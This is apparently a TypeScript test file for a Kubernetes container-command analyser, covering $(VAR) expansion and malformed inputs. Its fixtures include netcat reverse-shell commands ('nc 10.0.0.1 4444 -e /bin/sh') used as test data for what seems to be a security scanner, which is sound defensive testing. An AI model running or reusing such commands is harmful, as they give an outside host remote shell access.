/** Kubernetes-level handling of `command`/`args`: `$(VAR)` expansion and tolerated shapes. */
import { describe, expect, it } from 'vitest';
import { analyzeContainerCommand } from '../../../src/normalize/shell/index.js';
import { expandKubernetesReferences } from '../../../src/normalize/shell/kube-expand.js';

const ENV = new Map([
  ['HOST', '10.0.0.1'],
  ['PORT', '4444'],
  ['EMPTY', ''],
]);

describe('expandKubernetesReferences', () => {
  it.each<[string, string]>([
    ['nc $(HOST) $(PORT)', 'nc 10.0.0.1 4444'],
    ['$$(HOST)', '$(HOST)'],
    ['$$$(HOST)', '$10.0.0.1'],
    ['$(UNKNOWN)', '$(UNKNOWN)'],
    ['x$(EMPTY)y', 'xy'],
    ['$(HOST', '$(HOST'],
    ['$HOST ${HOST}', '$HOST ${HOST}'],
    ['cost: 5$', 'cost: 5$'],
    ['$(HOST)$(PORT)$(', '10.0.0.14444$('],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(expandKubernetesReferences(input, ENV)).toBe(expected);
  });

  it('stays linear on many unterminated references', () => {
    expect(expandKubernetesReferences('$('.repeat(500_000), ENV)).toBe('$('.repeat(500_000));
  });
});

describe('analyzeContainerCommand input handling', () => {
  it('expands $(VAR) before the shell sees the script, leaving shell syntax to the shell', () => {
    const result = analyzeContainerCommand(
      ['/bin/sh', '-c'],
      ['nc $(HOST) $(PORT) -e /bin/sh; echo $$(HOST) $HOST'],
      ENV,
    );
    expect(result.commandLine).toBe('/bin/sh -c nc 10.0.0.1 4444 -e /bin/sh; echo $(HOST) $HOST');
    // `$(HOST)` left by `$$` is a shell command substitution running `HOST`; `$HOST` is the env.
    expect(result.commands).toContain('nc 10.0.0.1 4444 -e /bin/sh');
    expect(result.commands).toContain('echo $(HOST) 10.0.0.1');
  });

  it.each<[string, unknown, unknown]>([
    ['nothing', undefined, undefined],
    ['null', null, null],
    ['a string instead of an array', 'sh -c id', 'x'],
    ['numbers', [1, 2], [3]],
    ['objects', [{ a: 1 }], [['nested']]],
  ])('tolerates %s', (_shape, command, args) => {
    const result = analyzeContainerCommand(command, args, ENV);
    expect(result).toEqual({
      commandLine: '',
      commands: [],
      programs: [],
      pipelines: [],
      payloads: [],
      texts: [],
    });
  });

  it('ignores non-string items but keeps the strings', () => {
    const result = analyzeContainerCommand(['sh', 7, '-c', null, 'id'], undefined, ENV);
    expect(result.commandLine).toBe('sh -c id');
    expect(result.commands).toEqual(['sh -c id', 'id']);
  });

  it('tolerates an env that is not a Map', () => {
    const env = { HOST: 'x' } as unknown as ReadonlyMap<string, string>;
    expect(analyzeContainerCommand(['echo', '$(HOST)'], [], env).commandLine).toBe('echo $(HOST)');
  });
});
